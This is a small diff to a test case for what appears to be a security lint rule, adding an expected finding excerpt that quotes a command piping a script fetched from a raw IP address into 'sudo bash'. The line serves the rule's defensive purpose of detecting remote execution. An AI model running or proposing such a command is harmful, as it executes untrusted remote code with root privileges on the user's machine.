@@ -68,6 +68,7 @@ testRule(rule, {
             line: 9,
             column: 1,
             kind: 'remote-execution',
+            excerpt: 'curl -s http://45.77.12.9/x | sudo bash',
             rule: 'remote-execution.pipe-throwaway',
           },
         ],
